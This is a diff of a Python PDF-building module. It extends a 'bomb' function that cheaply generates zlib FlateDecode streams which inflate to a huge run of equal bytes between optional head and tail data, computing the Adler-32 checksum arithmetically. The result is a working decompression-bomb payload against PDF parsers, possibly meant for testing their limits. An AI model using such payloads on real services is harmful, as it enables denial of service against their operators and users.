@@ -7,6 +7,7 @@ import zlib
 
 PIECE = 1 << 20
 ADLER_MODULUS = 65521
+SPACE = 0x20
 
 CATALOG, PAGES = 1, 2
 FONT = b'/F<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>'
@@ -25,20 +26,28 @@ def deflate(data, entries=b''):
     return stream(zlib.compress(data, 9), b'/Filter/FlateDecode' + entries)
 
 
-def bomb(n_bytes, byte=0):
-    """What zlib would make of so many equal bytes, in no time: it is told to
-    forget all between two pieces, which are therefore the same."""
-    piece = bytes([byte]) * PIECE
-    compressor = zlib.compressobj(9)
-    first = compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH)
-    again = compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH)
-    n_pieces = max(n_bytes // PIECE, 1)
-    n_bytes = n_pieces * PIECE
+def repeated_sum(adler, byte, n_times):
+    """What the check sum is after so many more equal bytes."""
+    low, high = adler & 0xffff, adler >> 16
+    high += n_times * low + byte * n_times * (n_times + 1) // 2
+    low += n_times * byte
+    return high % ADLER_MODULUS << 16 | low % ADLER_MODULUS
 
-    low = (1 + n_bytes * byte) % ADLER_MODULUS
-    high = (n_bytes + byte * n_bytes * (n_bytes + 1) // 2) % ADLER_MODULUS
-    end = compressor.flush()[:-4] + (high << 16 | low).to_bytes(4, 'big')
-    return first + again * (n_pieces - 1) + end
+
+def bomb(n_bytes, byte=0, head=b'', tail=b''):
+    """What zlib would make of so many equal bytes between two ends, in no
+    time: it is told to forget all between two pieces, which are therefore the
+    same."""
+    piece = bytes([byte]) * PIECE
+    n_pieces = max(n_bytes // PIECE, 1)
+    compressor = zlib.compressobj(9)
+
+    first = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
+    again = compressor.compress(piece) + compressor.flush(zlib.Z_FULL_FLUSH)
+    last = compressor.compress(tail) + compressor.flush()
+    adler = repeated_sum(zlib.adler32(head), byte, n_pieces * PIECE)
+    adler = zlib.adler32(tail, adler)
+    return first + again * n_pieces + last[:-4] + adler.to_bytes(4, 'big')
 
 
 def with_font(resources):
